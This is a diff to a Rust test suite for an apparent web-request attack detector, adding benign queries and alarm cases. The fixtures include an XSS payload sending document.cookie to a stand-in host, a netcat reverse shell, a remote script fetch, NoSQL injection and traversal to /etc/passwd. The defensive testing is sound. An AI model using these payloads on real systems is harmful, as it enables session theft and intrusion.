@@ -263,8 +263,22 @@ fn words_and_units_that_look_like_code_stay_quiet() {
         "q=curl+https://www.example.org/",
         "wd=wget+http%3A//example.org",
         "q=why+use+<script>&page=2",
+        "q=c%2B%2B+%7C%7C+java",
+        "q=ls+-la",
+        "message=Cannot+read+properties+of+null+(reading+'__proto__')",
+        "body=<p>Hi</p><img+src=\"/a.png\"+onerror=\"this.remove()\">",
+        "body=<img+src=\"/a.png\"+onerror=\"this.onerror=null;this.src='/b.png'\">",
+        "ref=/../",
         "ask={\"filter\":{\"$gt\":7}}",
     ]);
+    alarms(
+        Kind::Xss,
+        &[
+            "body=<img+src=x+onerror=\"this.src='//h.example/'%2Bdocument.cookie\">",
+            "body=<img+src=x+onerror=\"this.remove();alert(1)\">",
+            "body=<img+src=x+onerror=this.remove()>",
+        ],
+    );
     alarms(Kind::Nosql, &["ask={\"filter\":{\"$gt\":0}}", "name={\"$gt\":7}"]);
     alarms(Kind::Traversal, &["q=../../../contributing", "q=../../etc/passwd", "doc=../../a"]);
     alarms(
@@ -290,6 +304,9 @@ fn words_and_units_that_look_like_code_stay_quiet() {
             "q=;busybox+nc+192.0.2.1+9+-e+sh",
             "q=$(%3Ca.txt)",
             "q=curl+http://example.org/a.sh",
+            "cmd=ls+-la",
+            "q=ls+-la+/etc",
+            "q=a+||+id",
             "q=curl+http://192.0.2.1",
             "cmd=curl+http://example.org/",
             "q=;curl+http://example.org/",
